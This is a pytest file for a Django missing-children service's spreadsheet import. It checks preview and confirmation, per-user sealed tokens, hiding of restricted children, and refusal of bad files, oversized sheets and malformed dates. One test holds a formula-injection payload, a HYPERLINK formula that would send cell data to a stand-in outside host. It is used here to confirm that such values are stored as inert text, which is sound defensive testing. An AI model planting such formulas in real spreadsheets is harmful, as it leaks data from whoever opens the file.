"""Notifications out of a spreadsheet: looked through row by row, then taken, and what it may hold."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from cairn.foundation.spreadsheets import workbook
from cairn.missing import queries, tables
from cairn.missing.models import Report
from tests.missing.conftest import HEADINGS, JADE


def sheet(*rows):
    content = workbook(tables.COLUMNS, [[row.get(name, "") for name in tables.COLUMNS] for row in rows],
                       title="x")  # fmt: skip
    return SimpleUploadedFile("n.xlsx", content)


ROW = {"message": "1", "council": "northmoor", "reported_at": "21/11/2026 23:00",
       "given_name": "Jade", "family_name": "Example", "born_on": "04/05/2012"}  # fmt: skip


def sealed_of(page):
    return page.content.decode().split('name="seen" value="')[1].split('"')[0]


def test_spreadsheet_is_looked_through_and_then_taken(client, meg, jade, northmoor):
    client.force_login(meg)
    wrong = {**ROW, "message": "2", "council": "x"}
    page = client.post("/missing/import", {"file": sheet(ROW, wrong)})
    said = page.content.decode()
    assert "It begins an episode of Jade Example." in said
    assert "council: Give the code" in said
    assert not Report.objects.exists()
    seen = sealed_of(page)
    for _ in range(2):
        assert client.post("/missing/import", {"seen": seen}).url == "/missing/"
    report = Report.objects.get()
    assert (report.child, report.received_by, report.sender) == (jade, meg, meg.agency.name)
    again = client.post("/missing/import", {"file": sheet(ROW)}).content.decode()
    assert "It was taken before" in again


def test_spreadsheet_looked_through_by_somebody_else_is_not_taken(client, meg, pat, jade):
    client.force_login(meg)
    seen = sealed_of(client.post("/missing/import", {"file": sheet(ROW)}))
    client.force_login(pat)
    assert client.post("/missing/import", {"seen": seen}).url == "/missing/import"
    assert client.post("/missing/import", {"seen": "x"}).url == "/missing/import"
    assert not Report.objects.exists()


def test_spreadsheet_says_of_a_child_out_of_reach_what_it_says_of_nobody(meg, jade):
    from cairn.missing.notification import read_row

    known = read_row(2, ROW, councils=meg.councils)
    nobody = read_row(2, {**ROW, "message": "2", "given_name": "Nobody"}, councils=meg.councils)
    [said] = queries.would_become(by=meg, rows=[known])
    assert "Jade" in said
    jade.is_restricted, jade.restricted_because = True, "At risk from somebody who works here"
    jade.save()
    said, of_nobody = queries.would_become(by=meg, rows=[known, nobody])
    assert said == of_nobody


def test_spreadsheet_of_many_rows_asks_no_more_than_one_of_few(
    meg, jade, northmoor, episode, django_assert_num_queries
):
    from cairn.missing.notification import read_row

    def rows(*messages):
        told = [{**ROW, "message": one, "family_name": name} for one in messages
                for name in ("Example", "Nobody")]  # fmt: skip
        return [read_row(2, one, councils=meg.councils) for one in told]

    few, many = rows("1"), rows(*"123456789")
    queries.would_become(by=meg, rows=few)  # what is remembered of the partnership is known now
    with django_assert_num_queries(6):
        queries.would_become(by=meg, rows=few)
    with django_assert_num_queries(6):
        said = queries.would_become(by=meg, rows=many)
    assert said[0] == f"It joins episode {episode.reference} of Jade Example."
    assert said.count(said[1]) == 9


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("n.pdf", b"%PDF", "Choose an .xlsx or .csv file"),
        ("n.xlsx", b"no", "could not be read as a spreadsheet"),
        ("n.csv", b"a,b\n1,2\n", "does not name the fields"),
        ("n.csv", HEADINGS.encode(), "There is no notification in it"),
    ],
)
def test_spreadsheet_that_is_none_is_refused_in_words(client, meg, name, content, words):
    client.force_login(meg)
    page = client.post("/missing/import", {"file": SimpleUploadedFile(name, content)})
    assert words in page.content.decode()


def test_template_is_read_by_what_reads_it(client, meg):
    client.force_login(meg)
    content = b"".join(client.get("/missing/import/template"))
    book = load_workbook(io.BytesIO(content))
    assert [cell.value for cell in book.worksheets[0][1]] == list(tables.COLUMNS)
    [(number, told)] = tables.read("t.xlsx", content)
    assert (number, told["given_name"]) == (2, "Robin")


def test_time_that_the_clocks_showed_twice_is_said_before_the_spreadsheet_is_taken(
    client, meg, jade, northmoor
):
    client.force_login(meg)
    page = client.post(
        "/missing/import", {"file": sheet({**ROW, "reported_at": "25/10/2026 01:10"})}
    )
    assert "“25/10/2026 01:10” was read as 25 October 2026 at 1:10am BST" in page.content.decode()
    client.post("/missing/import", {"seen": sealed_of(page)})
    assert "twice" in Report.objects.get().asks


def broken_book():
    content = io.BytesIO(sheet(ROW).read())
    made = io.BytesIO()
    with zipfile.ZipFile(content) as whole, zipfile.ZipFile(made, "w") as broken:
        for one in whole.namelist():
            said = whole.read(one)
            broken.writestr(one, said[: len(said) // 2] if one.endswith("sheet1.xml") else said)
    return made.getvalue()


def test_spreadsheet_that_is_broken_inside_is_refused_in_words(client, meg):
    client.force_login(meg)
    page = client.post("/missing/import", {"file": SimpleUploadedFile("n.xlsx", broken_book())})
    assert "could not be read as a spreadsheet" in page.content.decode()


def test_formulas_are_words_and_take_nothing_away(client, meg, jade):
    client.force_login(meg)
    evil = '=HYPERLINK("http://elsewhere.example/"&A1)'
    page = client.post("/missing/import", {"file": sheet({**ROW, "circumstances": evil,
                                                          "given_name": "=1+1"})})  # fmt: skip
    client.post("/missing/import", {"seen": sealed_of(page)})
    report = Report.objects.get()
    assert report.given_name in ("=1+1", "")
    assert report.said.get("circumstances", evil) == evil


@pytest.mark.parametrize("name", ["n.csv", "n.xlsx"])
def test_ten_thousand_rows_are_refused_in_words(client, meg, name):
    client.force_login(meg)
    many = SimpleUploadedFile(name, (HEADINGS + JADE * 10_000).encode())
    file = many if name == "n.csv" else sheet(*[ROW] * 10_000)
    page = client.post("/missing/import", {"file": file}).content.decode()
    assert "It has more than 500 rows" in page
    assert not Report.objects.exists()


@pytest.mark.parametrize(
    "said",
    [
        "31/02/2026 10:00",
        "2026-11-21",
        "00/00/0000",
        "9" * 60,
        "21/11/26 10:00",
        "44521.5",
        "#REF!",
    ],
)
def test_dates_that_are_none_are_named_row_by_row(client, meg, said):
    client.force_login(meg)
    page = client.post(
        "/missing/import", {"file": sheet({**ROW, "reported_at": said})}
    ).content.decode()
    assert "It cannot be taken." in page
    assert 'name="seen"' not in page
